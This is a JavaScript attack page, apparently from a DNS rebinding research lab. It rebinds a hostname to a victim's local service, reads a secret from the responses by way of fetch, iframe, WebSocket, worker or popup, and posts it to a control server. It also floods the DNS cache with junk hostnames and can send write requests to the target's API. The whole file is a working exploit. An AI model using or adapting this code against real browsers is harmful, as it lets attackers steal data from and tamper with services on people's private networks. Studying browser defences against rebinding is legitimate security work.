// Tries one method again and again until an answer comes that is not the attacker's, and reports after each attempt.

const configuration = JSON.parse(document.getElementById('configuration').textContent)
const { control, method, needsClick, flush, closedPort, interval, marker, secretPrefix, write } = configuration

const report = {
  attempts: 0,
  failures: 0,
  errors: {},
  read: null,
  rebind_ms: null,
  wrote: null,
  pending: false,
  secure_context: isSecureContext,
  permissions: {},
  user_agent: navigator.userAgent,
}
let secret = null
let flipped = null
let sequence = 0

const sleep = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))
// A query of its own for each attempt: no cache, and each request can be found in the logs.
const fresh = (path) => `${location.origin}${path}?${Date.now().toString(36)}-${sequence++}`

/** The latest state; one at a time, so that an older one never comes last. */
let sending = Promise.resolve()
function send() {
  const body = JSON.stringify({ ...report, secret_text: secret })
  sending = sending.then(() => fetch(`${control}/report`, { method: 'POST', body }).catch(() => {}))
  return sending
}

/** The promise's value, or an error of this name when it takes longer. */
function within(milliseconds, what, promise) {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(what)), milliseconds)
    promise.then(resolve, reject).finally(() => clearTimeout(timer))
  })
}

const loaded = (element) => new Promise((resolve) => element.addEventListener('load', resolve, { once: true }))

async function iframeAttempt() {
  const frame = document.createElement('iframe')
  document.body.append(frame)
  try {
    const load = loaded(frame)
    frame.src = fresh('/')
    // What loads for ever can be read all the same.
    await Promise.race([load, sleep(3000)])
    if (frame.contentDocument === null) throw new Error('contentDocument is null')
    return documentRead(frame.contentDocument)
  } finally {
    frame.remove()
  }
}

/** A document that has the marker, or is still empty, is not the target's. */
function documentRead(document) {
  if (document.URL === 'about:blank') throw new Error('about:blank')
  const text = document.documentElement.innerHTML
  return text.includes(marker) ? { attacker: true } : textRead(text, secretPrefix)
}

function websocketAttempt() {
  return new Promise((resolve, reject) => {
    const socket = new WebSocket(fresh('/').replace('http', 'ws'))
    socket.onmessage = ({ data }) => {
      socket.close()
      resolve(textRead(String(data), secretPrefix))
    }
    socket.onclose = ({ code }) => reject(new Error(`WebSocket closed: ${code}`))
  })
}

let worker = null
function startWorker() {
  worker = new Worker('/worker.js')
  return new Promise((resolve, reject) => {
    worker.onmessage = resolve
    worker.onerror = () => reject(new Error('the worker did not start'))
  })
}

function workerAttempt() {
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => ('read' in data ? resolve(data.read) : reject(new Error(data.error)))
    worker.postMessage({ url: fresh('/'), marker, secretPrefix })
  })
}

let popup = null
function startPopup() {
  return new Promise((resolve, reject) => {
    const openWindow = () => {
      // Without a click it opens in front of somebody: small.
      popup = open(`${location.origin}/popup`, `popup-${location.hostname}`, needsClick ? '' : 'popup,width=320,height=200')
      if (popup === null) reject(new Error('the window was not opened'))
      else resolve()
    }
    addEventListener('pagehide', () => popup?.close())
    if (!needsClick) {
      openWindow()
      return
    }
    const button = document.getElementById('open')
    button.hidden = false
    button.addEventListener('click', openWindow, { once: true })
  })
}

/** None while an error page stands there, which is of another origin. */
function popupDocument() {
  try {
    return popup.document
  } catch {
    return null
  }
}

async function popupAttempt() {
  const before = popupDocument()
  popup.location.href = fresh('/')
  const patience = performance.now() + 1500
  for (;;) {
    await sleep(25)
    // Wherever the service has led it, and though it may load for ever: it is a document of this name.
    const found = popup.document
    if (found !== before && found.readyState !== 'loading' && found.URL !== 'about:blank') return documentRead(found)
    if (performance.now() > patience) throw new Error('the window did not load')
  }
}

/** From the window's own document, which the target has served: no other address space, no preflight. */
async function popupWrite() {
  try {
    const response = await within(3000, 'no answer', popup.fetch('/api', {
      method: 'POST',
      body: 'hello',
      headers: { 'x-hostbound-lab-write': '1' },
    }))
    return response.ok
  } catch {
    return false
  }
}

/** Fills the browser's cache of host names, so that it forgets ours. Each name resolves; nothing listens at its port. */
async function pushOut() {
  const attempts = []
  const round = Date.now().toString(36)
  for (let number = 0; number < flush; number++) {
    const url = `http://n${number}-${round}.${location.hostname}:${closedPort}/`
    attempts.push(fetch(url, { mode: 'no-cors', cache: 'no-store' }).catch(() => {}))
    if (attempts.length % 200 === 0) await Promise.race([Promise.all(attempts.splice(0)), sleep(2000)])
  }
  await Promise.race([Promise.all(attempts), sleep(2000)])
}

const attempts = {
  fetch: () => fetchAttempt(fresh('/'), marker, secretPrefix),
  'fetch-loopback': () => fetchAttempt(fresh('/'), marker, secretPrefix, { targetAddressSpace: 'loopback' }),
  iframe: iframeAttempt,
  websocket: websocketAttempt,
  worker: workerAttempt,
  popup: popupAttempt,
}

async function attempt() {
  const pending = setTimeout(() => {
    report.pending = true
    send()
  }, 3000)
  try {
    const found = await attempts[method]()
    if (found.attacker) return
    report.read = { status: found.status ?? null, length: found.length }
    secret = found.secret
    report.rebind_ms = Math.round(performance.now() - flipped)
  } catch (error) {
    report.failures++
    const text = String(error).slice(0, 200)
    report.errors[text] = (report.errors[text] ?? 0) + 1
  } finally {
    clearTimeout(pending)
    report.pending = false
    report.attempts++
  }
}

async function permissions() {
  for (const name of ['local-network-access', 'local-network', 'loopback-network']) {
    try {
      report.permissions[name] = (await navigator.permissions.query({ name })).state
    } catch (error) {
      report.permissions[name] = error.name
    }
  }
}

async function run() {
  await permissions()
  const started = { worker: startWorker, popup: startPopup }[method]?.()
  await send() // it is here: if a click is needed, it may come
  await started
  if (method === 'popup') await sleep(200) // for the window to load from the attacker
  await fetch(`${control}/flip`, { method: 'POST' })
  flipped = performance.now()
  while (report.read === null) {
    if (flush > 0) await pushOut()
    await attempt()
    if (report.read !== null && method === 'popup' && write) report.wrote = await popupWrite()
    await send()
    await sleep(interval)
  }
}

run().catch((error) => {
  report.errors[String(error).slice(0, 200)] = 1
  report.failures++
  send()
})
